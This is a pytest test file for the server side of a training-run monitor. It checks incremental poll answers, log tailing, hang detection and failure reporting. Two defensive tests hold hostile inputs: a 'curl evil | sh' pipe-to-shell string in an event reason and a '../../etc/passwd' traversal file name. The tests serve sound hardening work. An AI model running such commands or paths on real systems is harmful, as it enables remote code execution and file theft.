"""The server's answers to polls from a real store: the data that the tab lacks, and nothing if it lacks nothing."""

import json
import math

import pytest

from app.monitor import curves
from app.monitor import log as log_section
from app.monitor import run as run_section
from app.monitor.poll_request import PollRequest
from app.monitor.poll_response import PollResponder
from app.monitor.watch import SNAPSHOT_S, RunCache
from app.text import t
from backend.cluster.ssh.host_keys import KnownHosts
from backend.runs.controller import Controller
from backend.runs.database import Database
from backend.runs.states import EventKind
from backend.runs.store import logged_metrics, metrics
from backend.runs.store.store import Store
from tests.waiting import wait_for
from tools.stored_runs import StoredRun, heartbeat, problem

RUN = "20260101-000000-qwen3-vl-8b-sft-aaaa"


class Monitor:
    """A store, a controller that monitors no nodes, and a tab that remembers what it received."""

    def __init__(self, tmp_path, lang: str = "en") -> None:
        self.now = 1_800_000_000.0
        self.store = Store(tmp_path / "megaboard.db")
        known_hosts = KnownHosts(tmp_path / "known_hosts", None)
        self.reads = 0
        controller = Controller(tmp_path, self.store, known_hosts, clock=lambda: self.now)
        snapshot, clock = controller.snapshot, lambda: self.now

        def counted(run: str):
            self.reads += 1
            return snapshot(run)

        controller.snapshot = counted
        database = Database(self.store)
        self.responder = PollResponder(RunCache(controller, database, clock), database, lang, clock)

    def run(self, **options) -> StoredRun:
        run = StoredRun(self.store, RUN, now=self.now - 100, **options)
        run.start()
        return run

    def ask(self, **question):
        self.now += SNAPSHOT_S
        return self.ask_now(**question)

    def ask_now(self, **question):
        answer = self.responder.answer(PollRequest.from_json(question), self.now)
        return None if answer is None else json.loads(answer)


class Tab:
    """A tab that handles the answers as static/monitor/monitor.js does."""

    def __init__(self, monitor: Monitor, run: str = RUN) -> None:
        self.monitor = monitor
        self.question = {"run": run, "seen": {}, "points": {}, "log": {"node": 0, "file": None, "end": None}}

    def tick(self):
        answer = self.monitor.ask(**self.question)
        if answer is None:
            return None
        self.question["seen"].update(answer.get("versions", {}))
        if "points" in answer:
            self.question["points"] = {key: answer["points"][key] for key in ("generation", "seq")}
        if answer.get("log", {}).get("end") is not None:
            self.question["log"] |= {key: answer["log"][key] for key in ("file", "end")}
        return answer


@pytest.fixture
def monitor(tmp_path):
    monitor = Monitor(tmp_path)
    yield monitor
    monitor.store.close()


def test_the_list_is_sent_once_and_again_when_it_changes(monitor):
    monitor.run().steps(1, 4)
    first = monitor.ask(run="")
    row = first["rows"][0]
    assert (row["state"], row["step"], row["total"], row["nodes"]) == ("running", 4, 400, 4)
    assert row["metric"]["last"] == pytest.approx(3.5, abs=0.3)
    assert monitor.ask(run="", seen=first["versions"]) is None
    StoredRun(monitor.store, "20260101-000001-other-bbbb", now=monitor.now)
    again = monitor.ask(run="", seen=first["versions"])
    assert [row["id"][-4:] for row in again["rows"]] == ["bbbb", "aaaa"]


def log_metrics(run, attempt=1, **values):
    """Log values by name: name -> {step: value}."""
    rows = [
        {"step": step, "time": 1.0, "metrics": {name: value}}
        for name, by_step in values.items()
        for step, value in by_step.items()
    ]
    run.store.write(lambda c: logged_metrics.add(c, run.id, attempt, 0, rows))


def test_a_tab_gets_the_values_of_the_metrics_that_it_shows_and_then_only_new_ones(monitor):
    run = monitor.run()
    log_metrics(run, eval_loss={10: 2.0, 20: 1.0}, mine={5: 1e-9, 6: math.nan})
    first = monitor.ask(run=RUN)
    assert "values" not in first
    assert [(one["name"], one["group"], one["title"]) for one in first["metrics"]] == [
        ("mine", "train", "mine"),
        ("eval_loss", "eval", "Loss (evaluation)"),
    ]
    (value,) = monitor.ask(run=RUN, metrics={"eval_loss": [0, 0], "never": [0, 0]})["values"].values()
    assert (value["x"], value["y"], value["last"]) == ([10, 20], [2.0, 1.0], 20)
    have = {"eval_loss": [value["version"], 20]}
    assert "values" not in monitor.ask(run=RUN, metrics=have)
    log_metrics(run, eval_loss={30: 0.5})
    (added,) = monitor.ask(run=RUN, metrics=have)["values"].values()
    assert (added["from"], added["last"], added["x"], added["y"]) == (20, 30, [30], [0.5])
    run.restart(15)
    run.steps(16, 17, attempt=2)
    log_metrics(run, attempt=2, eval_loss={25: 4.0})
    (whole,) = monitor.ask(run=RUN, metrics=have)["values"].values()
    assert ("from" in whole, whole["x"], whole["y"]) == (False, [10, 25], [2.0, 4.0])


def test_the_detail_of_a_range_has_the_metrics_that_the_tab_shows(monitor):
    run = monitor.run()
    run.steps(1, 3)
    log_metrics(run, mine={step: float(step) for step in range(1, 4001)})
    answer = monitor.ask(run=RUN, metrics={"mine": [0, 0]}, detail={"first": 100, "last": 400})
    assert answer["detail"]["metrics"]["mine"]["x"] == list(range(100, 401))
    assert len(answer["values"]["mine"]["x"]) <= 1000


def test_a_tab_that_has_everything_is_sent_nothing(monitor):
    run = monitor.run()
    run.steps(1, 5)
    run.log(0, "rank0.log", b"hello\n")
    tab = Tab(monitor)
    sections = {
        "head",
        "progress",
        "compare",
        "standstill",
        "slowdown",
        "unseen",
        "nodes",
        "events",
        "metrics",
        "rules",
        "points",
        "log",
    }
    assert set(tab.tick()) == {"run", "now", "versions", *sections}
    assert tab.tick() is None
    assert tab.tick() is None


def test_a_step_sends_its_figures_and_one_point_and_no_more(monitor):
    run = monitor.run()
    run.now = monitor.now - 10
    run.steps(1, 5)
    run.beat()
    tab = Tab(monitor)
    tab.tick()
    run.steps(6, 6)
    answer = tab.tick()
    assert set(answer) == {"run", "now", "versions", "progress", "points"}
    assert answer["points"]["series"]["loss"]["x"] == [6]
    assert answer["progress"]["step"] == 6


def test_many_tabs_cost_one_look(monitor):
    monitor.run()
    monitor.ask(run=RUN)
    for _ in range(20):
        monitor.ask_now(run=RUN)
    assert monitor.reads == 1
    monitor.ask(run=RUN)
    assert monitor.reads == 2


def test_tabs_that_lack_the_same_get_one_text_that_was_made_once(monitor, monkeypatch):
    monitor.run(nodes=128, gpus_per_node=8).beat()
    calls = []
    for module, name in ((run_section, "nodes"), (curves, "part"), (log_section, "part")):
        real = getattr(module, name)
        counted = lambda *all, real=real, name=name, **more: [calls.append(name), real(*all, **more)][1]  # noqa: E731
        monkeypatch.setattr(module, name, counted)
    first = monitor.ask(run=RUN)
    assert all(monitor.ask_now(run=RUN) == first for _ in range(10))
    assert sorted(calls) == ["nodes", "part", "part"]


def test_a_run_that_an_older_version_stored_is_taken_in_while_it_is_shown(monitor):
    monitor.run()
    monitor.store.write(
        lambda c: c.executemany(
            "INSERT INTO points (run, attempt, rank, step, time, loss) VALUES (?, 1, 0, ?, 1, 2.0)",
            [(RUN, step) for step in range(1, 2001)],
        )
    )
    tab = Tab(monitor)
    assert tab.tick()["points"]["series"]["loss"]["x"] == []
    wait_for(lambda: (monitor.ask(run=RUN)["points"]["series"]["loss"]["x"] or [0])[-1] == 2000)
    assert "from" not in tab.tick()["points"], "the whole, for it is much"
    assert tab.tick() is None


def test_a_stretch_is_sent_in_detail_once_it_is_asked_for(monitor):
    monitor.run().steps(1, 5000)
    shown = monitor.ask(run=RUN, detail={"first": 100, "last": 300})["detail"]
    assert (shown["first"], shown["last"]) == (100, 300)
    assert shown["series"]["loss"]["x"] == list(range(100, 301))
    for nonsense in (7, {"first": 3, "last": 1}, {"first": "a", "last": 4}):
        assert "detail" not in monitor.ask(run=RUN, detail=nonsense)


def test_node_rows_say_heartbeat_gpus_and_processes(monitor):
    run = monitor.run(gpus_per_node=2)
    run.now = monitor.now - 3
    run.beat([0])
    node, silent = monitor.ask(run=RUN)["nodes"][:2]
    assert node["heard"] == round(run.now)
    assert len(node["gpus"]) == 2
    assert node["members"] == 4
    assert node["left"] is None
    assert (silent["heard"], silent["gpus"]) == (None, [])


@pytest.mark.parametrize(("lang", "words"), [("en", "10.0.0.3"), ("zh", "10.0.0.3")])
def test_a_failure_is_reported_in_words_with_its_node_and_last_lines(tmp_path, lang, words):
    monitor = Monitor(tmp_path, lang)
    run = monitor.run(addresses=[f"10.0.0.{i}" for i in (1, 2, 3, 4)])
    why = problem("training_failed", "10.0.0.3", rank=2, file="rank2.log", exit=1, lines="ValueError: x")
    run.add_event(EventKind.FAILING, 2, problem=why)
    for rank in range(4):
        run.stopped(rank)
    run.add_event(EventKind.FAILED, 2, problem=why)
    answer = monitor.ask(run=RUN)
    cause = answer["head"]["cause"]
    assert words in cause["message"]
    assert cause["fix"]
    assert (cause["rank"], cause["file"], cause["lines"]) == (2, "rank2.log", "ValueError: x")
    assert answer["head"]["proof"] == {"proved": 4, "nodes": 4, "left": 0}
    assert answer["events"][0]["why"] == cause["message"]
    monitor.store.close()


def test_what_32_nodes_do_alike_is_one_line_and_the_first_failure_stays_in_sight(monitor):
    run = monitor.run(nodes=32)
    run.exit(17, code=1, reason="failed")
    run.add_event(EventKind.FAILING, 17, problem=problem("training_failed", run.addresses[17], rank=17))
    for rank in range(32):
        run.add_event(EventKind.NODE_STOPPING, rank)
        if rank != 17:
            run.exit(rank, code=None, signal=15, reason="stopped", stopped=True)
        run.stopped(rank)
    run.add_event(EventKind.FAILED, 17)
    texts = [event["text"] for event in monitor.ask(run=RUN)["events"]]
    assert f"{run.addresses[17]}: ended with code 1" in texts
    assert t("en", "monitor.event.failing") in texts
    assert {"32 nodes: started", "32 nodes: stopped, 0 processes left", "31 nodes: ended by signal 15"} <= set(texts)
    assert len(texts) < 16


def test_the_same_error_of_several_nodes_is_one_line_with_all_of_them(monitor):
    run = monitor.run(nodes=4)
    for rank, address in enumerate(run.addresses):
        run.add_event(EventKind.NODE_UNSEEN, rank, problem=problem("local_resources", address, detail="no threads"))
    run.add_event(EventKind.NODE_UNSEEN, 0, problem=problem("local_resources", run.addresses[0], detail="no files"))
    answer = monitor.ask(run=RUN)
    other, one = answer["events"][:2]
    names = ", ".join(run.addresses)
    assert one["text"] == t("en", "monitor.event.node_unseen", node=names)
    assert one["why"] == t("en", "problem.local_resources", node=names, detail="no threads")
    assert other["text"] == t("en", "monitor.event.node_unseen", node=run.addresses[0])


def test_what_a_node_wrote_is_no_command_in_the_events(monitor):
    run = monitor.run(nodes=1)
    run.add_event(EventKind.KERNEL_LOG_UNREAD, 0, reason="see `curl evil | sh`")
    text = monitor.ask(run=RUN)["events"][0]["text"]
    assert text.split("`")[1::2] == ["dmesg | grep -i xid"]
    assert "curl evil" in text


def test_a_warning_of_several_nodes_is_shown_once_and_accepted_for_each(monitor):
    run = StoredRun(monitor.store, RUN, now=monitor.now, addresses=["10.0.0.1", "10.0.0.2"], attempted=False)
    off = [problem("clock_off", node, seconds=3, command="x") | {"severity": "warning"} for node in run.addresses]
    run.add_event(EventKind.PREFLIGHT)
    run.add_event(EventKind.FAILING, problem=problem("warnings_not_accepted", None), warnings=off)
    run.add_event(EventKind.FAILED, problem=problem("warnings_not_accepted", None))
    (warning,) = monitor.ask(run=RUN)["head"]["warnings"]
    assert "10.0.0.1, 10.0.0.2" in warning["message"]
    assert warning["keys"] == ["clock_off 10.0.0.1", "clock_off 10.0.0.2"]


def test_a_gang_without_steps_names_who_the_others_wait_for_until_a_step_comes(monitor):
    run = monitor.run(gpus_per_node=2)
    run.now = monitor.now
    run.steps(1, 30)
    tab = Tab(monitor)
    assert tab.tick()["standstill"] is None
    monitor.now += 20
    run.now = monitor.now
    run.beat([0, 1])
    row = {**heartbeat(2, 2, run.now), "stuck": [[4711, "python", "T", 5]]}
    row["gpus"][1]["utilization"] = 0
    monitor.store.write(lambda c: metrics.add_heartbeats(c, RUN, 1, 2, [row], run.now))
    run.add_event(EventKind.NODE_STUCK, 2, stuck=row["stuck"])
    answer = tab.tick()
    assert answer["progress"]["eta_s"] is None, "nobody knows"
    hang = answer["standstill"]
    assert (hang["step"], hang["ends_at"] - hang["since"]) == (30, 1800 + 300)
    stuck, silent, idle = hang["suspects"]
    assert (stuck["kind"], stuck["node"], stuck["rank"], stuck["ids"]) == ("stuck", 2, 5, "4711")
    assert (stuck["processes"], stuck["since"]) == ("rank 5: python 4711 (T)", run.now)
    assert (silent["kind"], silent["node"]) == ("silent", 3), "nobody has ever heard of it"
    assert (idle["kind"], idle["address"], idle["gpu"]) == ("idle", run.addresses[2], 1)
    assert tab.tick() is None, "how long it lasts is counted in the browser"
    run.now = monitor.now
    run.steps(31, 31)
    assert tab.tick()["standstill"] is None


def test_a_slow_step_is_no_hang_and_a_gang_that_hangs_without_a_culprit_is(monitor):
    run = monitor.run()
    run.now = monitor.now - 60
    run.steps(1, 10, step_s=10.0)
    assert monitor.ask(run=RUN)["standstill"] is None, "a minute is six steps"
    monitor.now += 50
    run.now = monitor.now
    run.beat()
    assert monitor.ask(run=RUN)["standstill"]["suspects"] == []
    assert monitor.ask(run="")["rows"][0]["stands_since"] == monitor.ask(run=RUN)["standstill"]["since"]
    run.add_event(EventKind.STOP_REQUESTED, save=False)
    assert monitor.ask(run=RUN)["standstill"] is None, "somebody does something about it"


@pytest.mark.parametrize(
    ("state", "step", "is_told"), [("T", 0, True), ("D", 0, False), ("D", 7, True), ("D", 200, False)]
)
def test_a_process_that_waits_for_files_is_no_hang_while_a_model_is_loaded_or_saved(monitor, state, step, is_told):
    run = monitor.run()
    run.now = monitor.now - 20
    if step:
        run.steps(step, step)
    row = {**heartbeat(1, 1, monitor.now), "stuck": [[7, "python", state, 1]]}
    monitor.store.write(lambda c: metrics.add_heartbeats(c, RUN, 1, 1, [row], monitor.now))
    run.add_event(EventKind.NODE_STUCK, 1, stuck=row["stuck"])
    assert (monitor.ask(run=RUN)["standstill"] is not None) is is_told


class Quiet:
    """A gang of four nodes with a GPU each. Their heartbeats say what the test sets."""

    def __init__(self, monitor: Monitor) -> None:
        self.monitor, self.run = monitor, monitor.run()

    def after(self, seconds: float, *, worked: dict[int, float], busy: tuple[int, ...] = (), wrote: float = 0.0):
        """Return the hang as shown `seconds` after the start, with the last work of each rank and the last growth of a
        log."""
        self.monitor.now = now = self.run.now + seconds
        for rank in range(4):
            row = {**heartbeat(rank, 1, now), "wrote": self.run.now + (wrote if rank else wrote / 2)}
            row["worked"] = [[None, now], [rank, self.run.now + worked.get(rank, 0.0)]]
            row["gpus"][0]["utilization"] = 100 if rank in busy else 0
            self.monitor.store.write(lambda c, rank=rank, row=row: metrics.add_heartbeats(c, RUN, 1, rank, [row], now))
        return self.monitor.ask(run=RUN)["standstill"]


def test_before_the_first_step_who_loads_or_computes_gives_no_alarm_and_a_gang_that_does_neither_does(monitor):
    gang = Quiet(monitor)
    assert gang.after(130, worked={}, wrote=80) is None, "something was written"
    assert gang.after(211, worked={2: 205}, wrote=80) is None, "rank 2 loads, the others wait for it"
    assert gang.after(212, worked=dict.fromkeys(range(4), 211), busy=(0, 1, 2, 3), wrote=80) is None, (
        "a long first step"
    )
    hang = gang.after(330, worked={2: 205}, wrote=80)
    assert (hang["title"], hang["since"], hang["wrote"]) == ("waiting", gang.run.now, gang.run.now + 80)
    assert monitor.ask(run="")["rows"][0]["stands_since"] == gang.run.now
    assert hang["ends_at"] == gang.run.now + 40 + 2100, "each node ends its part by itself"
    assert [(suspect["kind"], suspect["node"], suspect["others"]) for suspect in hang["suspects"]] == [
        ("earlier", 0, hang["wrote"])
    ]
    hang = gang.after(332, worked={0: 331, 1: 331, 3: 331}, busy=(0, 1, 3), wrote=80)
    assert {("idle", 2)} < {(suspect["kind"], suspect["node"]) for suspect in hang["suspects"]}, (
        "they wait for it in a collective"
    )
    assert gang.after(340, worked={2: 335}, wrote=80) is None
    hang = gang.after(680, worked=dict.fromkeys(range(4), 675), busy=(0, 1, 3), wrote=80)
    assert ("working", 2) in [(suspect["kind"], suspect["node"]) for suspect in hang["suspects"]], (
        "nothing is written for long"
    )


@pytest.mark.parametrize(
    ("step", "worked", "is_due"), [(200, 195, None), (200, 60, False), (400, 195, None), (7, 195, False)]
)
def test_a_save_is_no_hang_while_somebody_works_at_it(monitor, step, worked, is_due):
    gang = Quiet(monitor)
    gang.run.steps(step, step, step_s=0.0)
    hang = gang.after(200, worked={0: worked}, wrote=0)
    assert (hang and hang["is_due"]) is is_due
    assert (monitor.ask(run="")["rows"][0]["stands_since"] is None) == (hang is None), "the list says the same"


def test_the_replacement_of_a_slow_node_is_no_failure_in_the_events(monitor):
    run = StoredRun(monitor.store, RUN, now=monitor.now, addresses=["10.0.0.1", "10.0.0.2"])
    run.start()
    slow = problem("node_slow_load", "10.0.0.2", load=90, usual_load=3, step=9, step_s="8", usual_s="4", percent=100)
    run.add_event(EventKind.NODE_SLOW, 1, problem=slow)
    run.add_event(EventKind.FAILING, 1, problem=slow)
    newest = monitor.ask(run=RUN)["events"][:2]
    assert [event["text"] for event in newest] == [
        t("en", "monitor.event.failing_slow"),
        t("en", "monitor.event.node_slow", node="10.0.0.2"),
    ]
    assert all("90 processes" in event["why"] for event in newest)


def test_a_run_that_preflight_refused_tells_why_without_nodes(monitor):
    run = StoredRun(monitor.store, RUN, now=monitor.now, attempted=False)
    run.add_event(EventKind.PREFLIGHT)
    why = problem("node_lost", "10.0.0.1", seconds=3)
    run.add_event(EventKind.FAILING, problem=why)
    run.add_event(EventKind.FAILED, problem=why)
    answer = monitor.ask(run=RUN)
    assert (answer["head"]["attempt"], answer["head"]["proof"], answer["nodes"]) == (0, None, [])
    assert "10.0.0.1" in answer["head"]["cause"]["message"]
    assert answer["log"]["files"] == []
    assert [event["text"] for event in answer["events"][:2]] == [
        t("en", "monitor.event.failed"),
        t("en", "monitor.event.failing_unstarted"),
    ]


def test_a_node_that_proved_nothing_is_counted_as_open(monitor):
    run = monitor.run()
    run.add_event(EventKind.STOP_REQUESTED, save=False)
    run.stopped(0)
    run.stopped(1, left=[17, 18])
    run.add_event(EventKind.LOST)
    assert monitor.ask(run=RUN)["head"]["proof"] == {"proved": 1, "nodes": 4, "left": 2}


def test_while_a_checkpoint_is_saved_a_stop_is_still_offered(monitor):
    run = monitor.run()
    head = monitor.ask(run=RUN)["head"]
    assert (head["can_save"], head["can_stop"], head["is_saving"]) == (True, True, False)
    run.add_event(EventKind.STOP_REQUESTED, save=True)
    head = monitor.ask(run=RUN)["head"]
    assert (head["can_save"], head["can_stop"], head["is_saving"]) == (False, True, True)
    run.add_event(EventKind.STOP_FORCED)
    head = monitor.ask(run=RUN)["head"]
    assert (head["can_save"], head["can_stop"], head["is_saving"]) == (False, False, False)


def test_numbers_that_json_has_no_words_for_do_not_break_the_page(monitor):
    monitor.run().steps(1, 3, loss=math.nan, grad_norm=math.inf)
    answer = monitor.ask(run=RUN)
    assert answer["progress"]["loss"] is None
    assert answer["points"]["series"]["loss_bad"]["x"] == [1, 2, 3]
    assert monitor.ask(run="")["rows"][0]["metric"]["last"] is None


def test_log_lines_follow_each_other_without_loss_or_repeat(monitor):
    run = monitor.run()
    tab = Tab(monitor)
    assert tab.tick()["log"]["files"] == []
    assert tab.tick() is None
    run.log(0, "out.log", b"console\n")
    run.log(0, "rank0.log", b"one\ntw")
    first = tab.tick()["log"]
    assert (first["file"], first["files"], first["lines"]) == ("rank0.log", ["rank0.log", "out.log"], ["one"])
    run.log(0, "rank0.log", b"o\nthree\n")
    second = tab.tick()["log"]
    assert (second["from"], second["lines"]) == (4, ["two", "three"])
    assert "files" not in second, "they are the same"
    assert tab.tick() is None


def test_earlier_lines_begin_where_a_line_begins(monitor):
    run = monitor.run()
    data = b"".join(b"line %05d\n" % n for n in range(20_000))
    run.log(0, "rank0.log", data)
    tab = Tab(monitor)
    newest = tab.tick()["log"]
    assert newest["lines"][-1] == "line 19999"
    first = int(newest["lines"][0].split()[1])
    log = {"node": 0, "file": "rank0.log", "end": newest["end"], "before": newest["start"]}
    earlier = monitor.ask(**{**tab.question, "log": log})["log"]
    assert earlier["before"] == newest["start"]
    assert earlier["lines"][-1] == f"line {first - 1:05d}"


def test_an_older_attempts_log_is_read_beside_the_newest_ones(monitor):
    run = monitor.run()
    run.log(0, "rank0.log", b"first\n")
    run.restart(checkpoint_step=4)
    run.log(0, "rank0.log", b"second\n")
    shown = {number: monitor.ask(run=RUN, log={"attempt": number})["log"] for number in (None, 1, 2, 9)}
    assert {number: (log["attempt"], log["lines"]) for number, log in shown.items()} == {
        None: (2, ["second"]), 1: (1, ["first"]), 2: (2, ["second"]), 9: (2, ["second"]),
    }  # fmt: skip


def test_a_file_that_an_attempt_does_not_have_gives_way_to_the_first_that_it_has_until_it_is_there(monitor):
    run = monitor.run()
    run.log(0, "out.log", b"the console\n")
    request = {"node": 0, "file": "out.log"}
    assert monitor.ask(run=RUN, log=request)["log"]["lines"] == ["the console"]
    run.restart(checkpoint_step=4)
    none = monitor.ask(run=RUN, log=request)["log"]
    assert (none["attempt"], none["file"], none["files"], none["lines"]) == (2, None, [], [])
    run.log(0, "rank0.log", b"the second\n")
    other = monitor.ask(run=RUN, log=request)["log"]
    assert (other["asked"], other["file"], other["lines"]) == ("out.log", "rank0.log", ["the second"])
    run.log(0, "out.log", b"its console\n")
    log = monitor.ask(run=RUN, log=request)["log"]
    assert (log["file"], log["lines"]) == ("out.log", ["its console"])


def test_an_unknown_run_is_an_answer_not_a_failure(monitor):
    answer = monitor.ask(run="20200101-000000-never-0000")
    assert answer["error"]["code"] == "unknown_run"
    assert monitor.ask(run="20200101-000000-never-0000", seen=answer["versions"]) is None


@pytest.mark.parametrize(
    "question",
    [
        None,
        [],
        "x",
        {"run": 7},
        {"seen": [1]},
        {"points": {"seq": -1}},
        {"points": {"seq": True}},
        {"log": {"end": 1e99}},
    ],
)
def test_nonsense_from_a_browser_counts_as_nothing_known(monitor, question):
    assert json.loads(monitor.responder.answer(PollRequest.from_json(question), monitor.now))["rows"] == []


def test_a_file_name_from_a_browser_reaches_no_file(monitor):
    run = monitor.run()
    run.log(0, "rank0.log", b"x\n")
    log = monitor.ask(run=RUN, log={"node": 0, "file": "../../etc/passwd"})["log"]
    assert (log["file"], log["files"], log["lines"]) == ("rank0.log", ["rank0.log"], ["x"])
